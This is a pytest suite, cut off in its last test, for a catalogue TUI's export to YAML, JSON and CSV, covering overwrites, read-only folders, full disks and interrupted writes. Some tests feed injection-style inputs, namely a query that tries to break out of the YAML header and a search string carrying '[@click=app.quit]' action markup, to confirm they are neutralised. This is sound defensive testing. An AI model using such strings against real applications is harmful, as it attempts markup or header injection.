"""Exports, from every front door: the core writes YAML that is a catalogue of its own, JSON of the
same shape and CSV for spreadsheets, of exactly the chosen works; `catalog-tui export`; and the
TUI's export dialog. Then exports that cannot simply be written: the target exists (ask / --force),
its folder is missing or read-only, the path has `~` or Chinese characters, the disk fills up, the
write is interrupted, or a file appears at the target while the export is being written. Never a
partial or truncated file at the target, never a temporary file left behind, and a message that
says what happened and where. Disk-full and read-only cases run twice: simulated in-process, and
for real on a tiny tmpfs or a read-only bind mount in a private mount namespace (skipped where
that is not allowed).
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import (
    BEIJING,
    DOC,
    HONGGUO,
    LAW_CAMPAIGN,
    MARKUP,
    MARKUP_TITLE,
    SU_DONG_PO,
    TRAVEL,
    XING_SHI,
    FakeStdout,
    assert_clean,
    catalog_data,
    catalogue_with_titles,
    needs_mounts,
    run_cli,
    run_mounted,
    write_catalog,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from textual.widgets import Input
from tui_helpers import BUNDLED, bundled_app, notifications, ready, screen_text, settle, titles, type_query

from catalog_tui.app import CatalogApp
from catalog_tui.cli import main
from catalog_tui.core import atomic, export, export_file, export_formats
from catalog_tui.core.export import SECTIONS, ExportError, columns, render
from catalog_tui.core.export_file import ExportResult, export_works, format_for
from catalog_tui.core.library import Library
from catalog_tui.core.loader import load_catalog
from catalog_tui.core.model import Catalog, Work
from catalog_tui.core.store import Store, bundled_catalog_path
from catalog_tui.core.text import UNSAFE_CHARACTERS
from catalog_tui.screens.confirm import ConfirmScreen
from catalog_tui.screens.export_dialog import ExportDialog
from catalog_tui.screens.main import MainScreen

# The CLI messages these tests read are the English ones.
pytestmark = pytest.mark.usefixtures("english")

CHOSEN = (SU_DONG_PO, XING_SHI)
SIZE = (140, 40)


def chosen(catalog: Catalog, ids=CHOSEN) -> list[Work]:
    return [catalog.work(i) for i in ids]


def header(text: str) -> dict[str, str]:
    """The `# key: value` lines at the top of a YAML export."""
    lines = []
    for line in text.splitlines():
        if not line.startswith("#"):
            break
        lines.append(line)
    return dict(m.groups() for line in lines if (m := re.match(r"# (\w+): (.*)$", line)))


def leftovers(folder: Path, keep: set[str] = frozenset()) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


def temporaries(folder: Path) -> list[str]:
    return [p.name for p in folder.rglob("*.tmp")]


@pytest.fixture
def run(catalog_file: Path, db_path: Path, capsys: pytest.CaptureFixture[str]):
    """The CLI in-process on the fixture catalogue: (exit code, stdout, stderr); --catalog and --db
    are added unless store=False. The store is seeded first, so a simulated failure hits the export
    and not the first seed."""
    Library.open(catalog_file, db_path).close()

    def invoke(*argv: str, store: bool = True) -> tuple[int, str, str]:
        args = [*argv, "--catalog", str(catalog_file), "--db", str(db_path)] if store else list(argv)
        code = main(args)
        out, err = capsys.readouterr()
        assert "Traceback" not in out + err
        return code, out, err

    return invoke


async def open_export_dialog(pilot, path: str) -> ExportDialog:
    await pilot.press("e")
    await settle(pilot)
    dialog = pilot.app.screen
    assert isinstance(dialog, ExportDialog)
    dialog.query_one("#export-path", Input).value = path
    dialog.query_one("#scope-all").value = True
    await pilot.pause()
    return dialog


# The core: formats, files and failures ============================================================


# YAML ------------------------------------------------------------------------------------------


def test_yaml_export_is_a_valid_catalogue_of_exactly_the_chosen_works(
    catalog: Catalog, tmp_path: Path
) -> None:
    target = tmp_path / "out.yaml"
    result = export_works(catalog, chosen(catalog), target, query="苏东坡 | 醒狮")
    assert result == ExportResult(target, 2, "yaml")

    loaded = load_catalog(target)
    assert [w.id for w in loaded.works] == list(CHOSEN)
    assert [w.to_dict() for w in loaded.works] == [w.to_dict() for w in chosen(catalog)]
    # Only what the chosen works refer to: 你好，苏东坡 → travel; 醒狮 → 红果.
    assert [c.id for c in loaded.campaigns] == [TRAVEL]
    assert [c.id for c in loaded.channels] == [HONGGUO]
    assert loaded.campaign(TRAVEL) == catalog.campaign(TRAVEL)
    assert loaded.channel(HONGGUO) == catalog.channel(HONGGUO)
    assert LAW_CAMPAIGN not in {c.id for c in loaded.campaigns}
    assert BEIJING not in {c.id for c in loaded.channels}
    assert [d.file for d in loaded.documents] == [DOC]


def test_an_export_of_the_bundled_catalogue_validates_where_it_is_written(tmp_path: Path) -> None:
    # Documents' `text` paths are relative to the bundled catalogue: they stay behind.
    bundled = load_catalog(Path(__file__).resolve().parent.parent / "catalog.yaml")
    target = tmp_path / "elsewhere" / "works.yaml"
    target.parent.mkdir()
    export_works(bundled, bundled.works, target)
    loaded = load_catalog(target)
    assert [d.file for d in loaded.documents] == [d.file for d in bundled.documents]
    assert all(d.text == "" for d in loaded.documents)


def test_an_export_carries_the_campaigns_its_campaigns_are_based_on(tmp_path: Path) -> None:
    data = catalog_data()
    law = next(c for c in data["campaigns"] if c["id"] == LAW_CAMPAIGN)
    law["based_on"] = [TRAVEL]
    data["works"][0]["campaigns"] = [LAW_CAMPAIGN]
    catalog = load_catalog(write_catalog(tmp_path / "catalog.yaml", data))
    target = tmp_path / "out.yaml"
    export_works(catalog, catalog.works[:1], target)
    assert {c.id for c in load_catalog(target).campaigns} == {LAW_CAMPAIGN, TRAVEL}


def test_exporting_every_work_round_trips_the_catalogue(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "all.yaml"
    export_works(catalog, catalog.works, target)
    assert load_catalog(target).to_dict() == catalog.to_dict()


def test_yaml_header_has_query_count_and_date(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    before = datetime.now().astimezone().replace(microsecond=0)
    export_works(catalog, chosen(catalog), target, query="campaign:旅行 | 醒狮")
    after = datetime.now().astimezone()
    fields = header(target.read_text(encoding="utf-8"))
    assert fields["query"] == "campaign:旅行 | 醒狮"
    assert fields["works"] == "2"
    stamp = datetime.fromisoformat(fields["date"])
    assert stamp.tzinfo is not None
    assert before <= stamp <= after + timedelta(seconds=1)


def test_yaml_header_without_a_query_says_none(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    export_works(catalog, chosen(catalog, [XING_SHI]), target)
    fields = header(target.read_text(encoding="utf-8"))
    assert fields["query"] == "(none)"
    assert fields["works"] == "1"


def test_a_query_with_line_breaks_cannot_break_out_of_the_header(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    export_works(catalog, chosen(catalog), target, query="x\nworks: []\r\u2028campaigns: 1")
    text = target.read_text(encoding="utf-8")
    assert header(text)["works"] == "2"
    assert [w.id for w in load_catalog(target).works] == list(CHOSEN)


def test_yaml_writes_chinese_literally(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    export_works(catalog, chosen(catalog), target)
    payload = target.read_bytes()
    assert "你好，苏东坡".encode() in payload
    assert "跟着微短剧去旅行".encode() in payload
    assert b"\\u" not in payload
    assert b"\\x" not in payload


def test_markup_in_a_title_survives_the_round_trip(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "markup.yaml"
    export_works(catalog, chosen(catalog, [MARKUP]), target)
    loaded = load_catalog(target)
    assert [w.title for w in loaded.works] == [MARKUP_TITLE]
    assert loaded.campaigns == [] and loaded.channels == []


# JSON and CSV ----------------------------------------------------------------------------------


def test_json_export_has_the_same_shape_as_yaml(catalog: Catalog, tmp_path: Path) -> None:
    export_works(catalog, chosen(catalog), tmp_path / "out.yaml", query="q")
    result = export_works(catalog, chosen(catalog), tmp_path / "out.json", query="q")
    assert result.format == "json"
    as_yaml = yaml.safe_load((tmp_path / "out.yaml").read_text(encoding="utf-8"))
    payload = (tmp_path / "out.json").read_bytes()
    as_json = json.loads(payload.decode("utf-8"))
    assert as_json == as_yaml  # the same catalogue (the query and date are YAML comments)
    assert [w["id"] for w in as_json["works"]] == list(CHOSEN)
    assert "醒狮".encode() in payload
    assert b"\\u" not in payload


def test_csv_export_columns_bom_and_names(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    result = export_works(catalog, chosen(catalog, [SU_DONG_PO, XING_SHI, MARKUP]), target)
    assert result.format == "csv"
    payload = target.read_bytes()
    assert payload.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"))))
    assert tuple(rows[0]) == columns("works")
    assert [r["id"] for r in rows] == [SU_DONG_PO, XING_SHI, MARKUP]
    su, xing, markup = rows
    assert su["title"] == "你好，苏东坡"
    assert su["type"] == "micro-drama"
    assert su["year"] == "2024"
    assert json.loads(su["campaigns"]) == [TRAVEL]  # ids, as in JSON and YAML
    assert json.loads(su["themes"]) == ["文化遗产", "文旅融合"]
    assert json.loads(xing["channels"]) == [HONGGUO]
    assert markup["year"] == ""
    assert markup["title"] == MARKUP_TITLE
    assert json.loads(su["sources"])[0]["doc"] == DOC


@pytest.mark.parametrize(
    ("name", "explicit", "expected"),
    [("a.yaml", None, "yaml"), ("a.YML", None, "yaml"), ("a.json", None, "json"), ("a.csv", None, "csv"),
     ("a.txt", "yaml", "yaml"), ("a", "csv", "csv"), ("a.csv", "json", "json")],
)  # fmt: skip
def test_format_for(name: str, explicit: str | None, expected: str) -> None:
    assert format_for(name, explicit) == expected


def test_an_unknown_format_is_an_export_error(catalog: Catalog, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="xml"):
        export_works(catalog, chosen(catalog), tmp_path / "out.xml", "xml")
    with pytest.raises(ExportError):
        render(catalog, chosen(catalog), "xml")
    assert leftovers(tmp_path) == []


# Where the file goes -----------------------------------------------------------------------------


def test_refuses_to_overwrite_unless_asked(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    target.write_text("precious", encoding="utf-8")
    with pytest.raises(ExportError, match="already exists"):
        export_works(catalog, chosen(catalog), target)
    assert target.read_text(encoding="utf-8") == "precious"
    export_works(catalog, chosen(catalog), target, overwrite=True)
    assert [w.id for w in load_catalog(target).works] == list(CHOSEN)
    assert leftovers(tmp_path) == ["out.yaml"]


def test_a_missing_folder_is_an_export_error(catalog: Catalog, tmp_path: Path) -> None:
    target = tmp_path / "no-such-folder" / "out.yaml"
    with pytest.raises(ExportError, match="does not exist"):
        export_works(catalog, chosen(catalog), target)
    assert not target.parent.exists()


def test_a_folder_as_target_is_an_export_error(catalog: Catalog, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="folder"):
        export_works(catalog, chosen(catalog), tmp_path, overwrite=True)


def test_a_path_with_tilde_is_expanded(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    result = export_works(catalog, chosen(catalog), "~/导出.yaml")
    assert result.path == home / "导出.yaml"
    assert (home / "导出.yaml").is_file()
    assert not (Path.cwd() / "~").exists()


def test_chinese_file_and_folder_names(catalog: Catalog, tmp_path: Path) -> None:
    folder = tmp_path / "我的导出"
    folder.mkdir()
    for name in ("微短剧清单.yaml", "微短剧清单.json", "微短剧清单.csv"):
        result = export_works(catalog, chosen(catalog), folder / name)
        assert result.path.read_bytes()
    assert [w.id for w in load_catalog(folder / "微短剧清单.yaml").works] == list(CHOSEN)
    assert leftovers(folder) == ["微短剧清单.csv", "微短剧清单.json", "微短剧清单.yaml"]


# Failures ------------------------------------------------------------------------------------------


def _disk_full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("where", ["replace", "fsync"])
def test_a_full_disk_is_an_export_error_and_leaves_nothing(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    target = tmp_path / "out.yaml"
    monkeypatch.setattr(os, where, _disk_full)
    with pytest.raises(ExportError) as caught:
        export_works(catalog, chosen(catalog), target)
    assert "disk" in str(caught.value)
    assert str(target) in str(caught.value)
    assert not target.exists()
    assert leftovers(tmp_path) == []


def test_a_failed_overwrite_keeps_the_old_file(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out.yaml"
    target.write_bytes(b"old contents")
    monkeypatch.setattr(os, "replace", _disk_full)
    with pytest.raises(ExportError, match="disk"):
        export_works(catalog, chosen(catalog), target, overwrite=True)
    assert target.read_bytes() == b"old contents"
    assert leftovers(tmp_path) == ["out.yaml"]


def test_no_permission_is_an_export_error(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(ExportError, match="permission"):
        export_works(catalog, chosen(catalog), tmp_path / "out.csv")
    assert leftovers(tmp_path) == []


def test_another_os_error_is_an_export_error(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args, **kwargs):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(ExportError, match="Input/output error"):
        export_works(catalog, chosen(catalog), tmp_path / "out.json")
    assert leftovers(tmp_path) == []


# The command line: catalog-tui export =============================================================


def test_export_writes_a_file_validate_accepts(run, tmp_path: Path) -> None:
    target = tmp_path / "旅行.yaml"
    code, out, _ = run("export", "campaign:旅行", "-o", str(target))
    assert code == 0
    assert out.strip() == f"wrote 2 work(s) to {target} (yaml)"
    code, out, _ = run("validate", str(target), store=False)
    assert code == 0
    assert "2 works" in out
    assert "1 campaigns" in out


def test_export_shows_its_progress_on_a_terminal(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from contextlib import contextmanager

    from catalog_tui import cli_commands

    calls: list[tuple[str, int, int]] = []

    @contextmanager
    def terminal_progress() -> Any:  # what cli_progress yields when stderr is a terminal
        yield lambda stage, done, total: calls.append((stage, done, total))

    monkeypatch.setattr(cli_commands, "store_progress", terminal_progress)
    code, _, _ = run("export", "campaign:旅行", "-o", str(tmp_path / "out.yaml"))
    assert code == 0
    exporting = [call for call in calls if call[0] == "exporting"]
    assert exporting[0][1] == 0 and exporting[-1][1] == exporting[-1][2] > 0


def test_export_format_from_suffix_and_option(run, tmp_path: Path) -> None:
    code, out, _ = run("export", "醒狮", "-o", str(tmp_path / "out.csv"))
    assert code == 0
    assert out.strip().endswith("(csv)")
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    code, out, _ = run("export", "醒狮", "-o", str(tmp_path / "out.txt"), "--format", "json")
    assert code == 0
    assert [w["title"] for w in json.loads((tmp_path / "out.txt").read_text(encoding="utf-8"))["works"]] == [
        "醒狮"
    ]


def test_export_of_a_saved_search_records_its_query(run, tmp_path: Path, db_path: Path) -> None:
    store = Store(db_path)
    store.save_search("红果", "channel:红果")
    store.close()
    target = tmp_path / "out.yaml"
    code, _, _ = run("export", "@红果", "-o", str(target))
    assert code == 0
    assert "# query: channel:红果" in target.read_text(encoding="utf-8")


def test_export_with_a_malformed_query(run, tmp_path: Path) -> None:
    code, _, err = run("export", "a |", "-o", str(tmp_path / "out.yaml"))
    assert code == 2
    assert "query error" in err
    assert not (tmp_path / "out.yaml").exists()


# The export dialog ================================================================================


async def test_select_three_export_and_validate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    app = bundled_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        chosen = titles(app)[:3]
        await pilot.press("space", "space", "space")
        await settle(pilot)
        assert len(app.screen.selected) == 3
        await pilot.press("e")
        await settle(pilot)
        assert isinstance(app.screen, ExportDialog)
        await pilot.press("enter")
        await settle(pilot)
    exported = list(tmp_path.glob("catalog-export-*.yaml"))
    assert len(exported) == 1
    catalog = load_catalog(exported[0])
    assert sorted(w.title for w in catalog.works) == sorted(chosen)


async def test_stats_follow_the_query_and_figures_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CATALOG_TUI_LANG", "zh")  # it reads the Chinese chart labels
    app = bundled_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        await pilot.press("7")
        await settle(pilot)
        charts = str(app.screen.query_one("#stats-charts").render())
        assert "微短剧" in charts and " 23" in charts  # every micro-drama counted
        await type_query(pilot, "type:documentary")
        charts = str(app.screen.query_one("#stats-charts").render())
        assert "微短剧" not in charts.split("活动")[0] and "网络纪录片" in charts
        await type_query(pilot, "市场规模")  # figures follow the free-text words of the query
        figures = app.screen.query_one("#records-figures")
        labels = [f.label for f in figures.records]
        assert labels and all("市场规模" in label for label in labels)
        figures.focus()
        await pilot.press("space")
        await settle(pilot)
        assert len(app.screen.chosen_figures) == 1
        await pilot.press("e")
        await settle(pilot)
        assert isinstance(app.screen, ExportDialog)
        await pilot.press("enter")
        await settle(pilot)
    (exported,) = tmp_path.glob("catalog-export-*.yaml")
    catalog = load_catalog(exported)
    assert len(catalog.figures) == 1 and catalog.works == []


async def test_export_names_are_safe_and_exports_keep_the_text_exactly(
    hostile_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    app = CatalogApp(catalog_path=hostile_file, db_path=str(tmp_path / "store" / "store.json"))
    async with app.run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await pilot.press("slash")
        app.screen.query_one("#search-input", Input).value = "[@click=app.quit] [b]"
        await settle(pilot)
        await pilot.press("escape", "a", "e")
        await settle(pilot)
        dialog = app.screen
        assert isinstance(dialog, ExportDialog)
        suggested = dialog.query_one("#export-path", Input).value
        assert re.fullmatch(re.escape(str(tmp_path)) + r"/catalog-export-\d{8}-\d{4}\.yaml", suggested)
        dialog.query_one("#export-scope").query_one("#scope-all").value = True
        await pilot.press("enter")
        await settle(pilot)
        assert_clean(screen_text(app), "export notification")
    (exported,) = tmp_path.glob("catalog-export-*.yaml")
    original = load_catalog(hostile_file)
    again = load_catalog(exported)  # the export is itself a valid catalogue …
    assert sorted(w.to_dict()["title"] for w in again.works) == sorted(w.title for w in original.works)
    assert {w.id: w for w in again.works} == {w.id: w for w in original.works}  # … with the text exact


# Exports that cannot simply be written: from the core, the CLI and the dialog =====================


# The target exists -------------------------------------------------------------------------------


def test_an_existing_target_is_refused_without_force_and_replaced_with_it(run, tmp_path: Path) -> None:
    target = tmp_path / "out.yaml"
    target.write_bytes(b"the user's own notes")
    code, out, err = run("export", "", "-o", str(target))
    assert code == 1 and out == ""
    assert (
        err
        == f"catalog-tui: export failed: {target} already exists; choose another name or overwrite it (--force)\n"
    )
    assert target.read_bytes() == b"the user's own notes"
    code, out, _ = run("export", "", "-o", str(target), "--force")
    assert code == 0 and out == f"wrote 7 work(s) to {target} (yaml)\n"
    assert len(load_catalog(target).works) == 7
    assert leftovers(tmp_path) == ["catalog.yaml", "out.yaml", "store"]
    assert run("validate", str(target), store=False)[0] == 0


def test_a_file_appearing_while_exporting_is_not_replaced(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another program creates the target between the check and the rename: it keeps its file."""
    target = tmp_path / "out.yaml"
    real_fsync = os.fsync

    def fsync_then_someone_else_writes(fd: int) -> None:
        real_fsync(fd)
        if not target.exists():
            target.write_bytes(b"written by someone else")

    monkeypatch.setattr(os, "fsync", fsync_then_someone_else_writes)
    with pytest.raises(ExportError, match="appeared while exporting and was left as it is"):
        export_works(catalog, catalog.works, target)
    assert target.read_bytes() == b"written by someone else"
    assert temporaries(tmp_path) == []


async def test_the_tui_asks_before_overwriting(tmp_path: Path, catalog_file: Path, db_path: Path) -> None:
    target = tmp_path / "已有.yaml"
    target.write_bytes(b"keep me")
    app = CatalogApp(catalog_path=catalog_file, db_path=str(db_path))
    notes = notifications(app)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        for answer, expected in (("n", b"keep me"), ("escape", b"keep me"), ("y", None)):
            await open_export_dialog(pilot, str(target))
            await pilot.press("enter")
            await settle(pilot)
            assert isinstance(app.screen, ConfirmScreen)
            assert str(target) in str(app.screen.question)
            await pilot.press(answer)
            await settle(pilot)
            assert isinstance(app.screen, MainScreen)
            if expected is not None:
                assert target.read_bytes() == expected
        assert len(load_catalog(target).works) == 7
        assert any(str(target) in str(n.message) for n in notes)
    assert temporaries(tmp_path) == []


# Folders: missing, read-only ---------------------------------------------------------------------


def test_a_missing_folder_is_a_clear_error(run, tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "folder" / "out.csv"
    code, _, err = run("export", "", "-o", str(target))
    assert code == 1
    assert err == f"catalog-tui: export failed: the folder {target.parent} does not exist\n"
    assert leftovers(tmp_path) == ["catalog.yaml", "store"]


def refuse_in(monkeypatch: pytest.MonkeyPatch, folder: Path, code: int) -> None:
    """Creating a file in `folder` fails as a read-only folder (EACCES) or disk (EROFS) would."""
    real_open = os.open

    def open_file(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:  # the temporary files
        if flags & os.O_CREAT and Path(path).parent.resolve() == folder.resolve():
            error = PermissionError if code == errno.EACCES else OSError
            raise error(code, os.strerror(code), str(folder))
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(atomic.os, "open", open_file)


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (errno.EACCES, "no permission to write in {folder}; nothing was written"),
        (errno.EPERM, "no permission to write in {folder}; nothing was written"),
        (errno.EROFS, "the folder {folder} is on a read-only disk: {target} was not written"),
    ],
)
def test_a_read_only_folder_is_a_clear_error(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, message: str
) -> None:
    folder = tmp_path / "只读"
    folder.mkdir()
    target = folder / "out.json"
    refuse_in(monkeypatch, folder, code)
    exit_code, _, err = run("export", "", "-o", str(target))
    assert exit_code == 1
    assert err == "catalog-tui: export failed: " + message.format(folder=folder, target=target) + "\n"
    assert leftovers(folder) == []


async def test_the_tui_says_why_an_export_failed_and_where(
    tmp_path: Path, catalog_file: Path, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "只读"
    folder.mkdir()
    refuse_in(monkeypatch, folder, errno.EACCES)
    app = CatalogApp(catalog_path=catalog_file, db_path=str(db_path))
    notes = notifications(app)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        for target, expected in (
            (folder / "out.yaml", f"no permission to write in {folder}"),
            (tmp_path / "missing" / "out.yaml", f"the folder {tmp_path / 'missing'} does not exist"),
        ):
            await open_export_dialog(pilot, str(target))
            await pilot.press("enter")
            await settle(pilot)
            assert isinstance(app.screen, MainScreen) and app.is_running
            errors = [n for n in notes if n.severity == "error"]
            assert errors and expected in str(errors[-1].message), [str(n.message) for n in errors]
    assert leftovers(folder) == []


async def test_a_folder_as_the_export_path_is_not_offered_for_overwriting(
    tmp_path: Path, catalog_file: Path, db_path: Path
) -> None:
    app = CatalogApp(catalog_path=catalog_file, db_path=str(db_path))
    notes = notifications(app)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        await open_export_dialog(pilot, str(tmp_path))
        await pilot.press("enter")
        await settle(pilot)
        assert not isinstance(app.screen, ConfirmScreen)
        errors = [str(n.message) for n in notes if n.severity == "error"]
        assert errors == [f"{tmp_path} is a folder; give a file name"]


# Paths with ~ and Chinese ------------------------------------------------------------------------


def test_tilde_and_chinese_paths(run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    folder = tmp_path / "导出 文件夹"
    folder.mkdir()
    code, out, _ = run("export", "醒狮", "-o", "~/导出 文件夹/醒狮·作品.csv")
    target = folder / "醒狮·作品.csv"
    assert code == 0 and out == f"wrote 1 work(s) to {target} (csv)\n"
    assert "醒狮" in target.read_text(encoding="utf-8-sig")


async def test_tilde_and_chinese_paths_in_the_tui(
    tmp_path: Path, catalog_file: Path, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "导出").mkdir()
    app = CatalogApp(catalog_path=catalog_file, db_path=str(db_path))
    notes = notifications(app)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        await open_export_dialog(pilot, "~/导出/全部作品.json")
        await pilot.press("enter")
        await settle(pilot)
        target = tmp_path / "导出" / "全部作品.json"
        assert target.is_file()
        assert any(str(target) in str(n.message) for n in notes)


def test_unusable_names_are_export_errors(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ExportError, match=r"cannot use .* as a file name"):
        export_works(catalog, catalog.works, str(tmp_path / "nul\0name.yaml"))
    with pytest.raises(ExportError, match=r"could not write .*File name too long; nothing was written"):
        export_works(catalog, catalog.works, tmp_path / ("长" * 200 + ".yaml"))
    with pytest.raises(ExportError, match=r"could not write .*File name too long; nothing was written"):
        export_works(catalog, catalog.works, tmp_path / ("长" * 200 + ".yaml"), overwrite=True)
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)  # no home folder to be found
    with pytest.raises(ExportError, match=r"cannot use ~/x\.yaml as a file name"):
        export_works(catalog, catalog.works, "~/x.yaml")
    assert leftovers(tmp_path) == []


# Disk full and interrupted writes -----------------------------------------------------------------


class BreakingWriter:
    """A file object that writes half of what it is given, then fails: a disk filling up mid-write
    (OSError ENOSPC) or the user pressing Ctrl-C (KeyboardInterrupt)."""

    def __init__(self, stream: Any, error: BaseException) -> None:
        self.stream = stream
        self.error = error

    def write(self, data: bytes) -> int:
        self.stream.write(data[: len(data) // 2])
        self.stream.flush()
        raise self.error

    def __getattr__(self, name: str) -> Any:
        return getattr(self.stream, name)

    def __enter__(self) -> BreakingWriter:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stream.close()


def break_writes(monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    real_fdopen = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **k: BreakingWriter(real_fdopen(fd, *a, **k), error))


FAILURES = {
    "disk-full-mid-write": ("write", OSError(errno.ENOSPC, "No space left on device")),
    "quota-exceeded-mid-write": ("write", OSError(errno.EDQUOT, "Disk quota exceeded")),
    "disk-full-at-fsync": ("fsync", OSError(errno.ENOSPC, "No space left on device")),
}


@pytest.mark.parametrize("where, error", FAILURES.values(), ids=FAILURES.keys())
@pytest.mark.parametrize("existing", [False, True], ids=["new", "overwrite"])
def test_a_full_disk_leaves_no_partial_file(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, error: OSError, existing: bool
) -> None:
    target = tmp_path / "out.yaml"
    if existing:
        target.write_bytes(b"previous export")
    if where == "write":
        break_writes(monkeypatch, error)
    else:

        def fail(*args: Any) -> None:
            raise error

        monkeypatch.setattr(os, "fsync", fail)
    code, _, err = run("export", "", "-o", str(target), *(["--force"] if existing else []))
    monkeypatch.undo()
    assert code == 1
    assert err == f"catalog-tui: export failed: the disk is full: {target} was not written\n"
    assert target.read_bytes() == b"previous export" if existing else not target.exists()
    assert temporaries(tmp_path) == []


@pytest.mark.parametrize("where", ["write", "replace"])
@pytest.mark.parametrize("existing", [False, True], ids=["new", "overwrite"])
def test_an_interrupted_export_leaves_nothing_and_says_so(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, existing: bool
) -> None:
    target = tmp_path / "作品.yaml"
    if existing:
        target.write_bytes(b"previous export")
    if where == "write":
        break_writes(monkeypatch, KeyboardInterrupt())
    else:

        def interrupted(*args: Any) -> None:
            raise KeyboardInterrupt

        monkeypatch.setattr(os, "replace", interrupted)
    code, out, err = run("export", "", "-o", str(target), *(["--force"] if existing else []))
    monkeypatch.undo()
    assert code == 130 and out == ""
    assert err == f"catalog-tui: export interrupted: nothing was written to {target}\n"
    assert target.read_bytes() == b"previous export" if existing else not target.exists()
    assert temporaries(tmp_path) == []


def test_any_other_failure_names_the_target(run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.yaml"
    break_writes(monkeypatch, OSError(errno.EIO, "Input/output error"))
    code, _, err = run("export", SU_DONG_PO, "-o", str(target))
    monkeypatch.undo()
    assert code == 1
    assert (
        err
        == f"catalog-tui: export failed: could not write {target}: Input/output error; nothing was written\n"
    )
    assert leftovers(tmp_path) == ["catalog.yaml", "store"]


# For real: a tiny tmpfs and a read-only bind mount -----------------------------------------------


@needs_mounts
def test_a_really_full_disk_leaves_no_partial_file(tmp_path: Path) -> None:
    folder = tmp_path / "mounted"
    db = tmp_path / "store" / "store.json"
    setup = 'mount -t tmpfs -o size=12k none "$DIR"'
    code, err, listing, _ = run_mounted(
        tmp_path,
        setup,
        "export",
        "",
        "-o",
        str(folder / "全部.yaml"),
        "--catalog",
        str(BUNDLED),
        "--db",
        str(db),
    )
    assert code == 1, err
    assert err == f"catalog-tui: export failed: the disk is full: {folder / '全部.yaml'} was not written\n"
    assert listing == []  # no partial target, no temporary file
    # The same with an earlier export at the target: it survives whole.
    setup += ' && printf "earlier export" > "$DIR/全部.yaml"'
    code, err, listing, content = run_mounted(
        tmp_path, setup, "export", "", "-o", str(folder / "全部.yaml"), "--force",
        "--catalog", str(BUNDLED), "--db", str(db), after='cat "$DIR/全部.yaml"',
    )  # fmt: skip
    assert code == 1 and "the disk is full" in err
    assert listing == ["全部.yaml"] and content == "earlier export"


@needs_mounts
def test_a_really_read_only_folder_is_a_clear_error(tmp_path: Path) -> None:
    folder = tmp_path / "mounted"
    source = tmp_path / "source"
    source.mkdir()
    (source / "old.yaml").write_bytes(b"old")
    db = tmp_path / "store" / "store.json"
    setup = f'mount --bind "{source}" "$DIR" && mount -o remount,ro,bind "$DIR"'
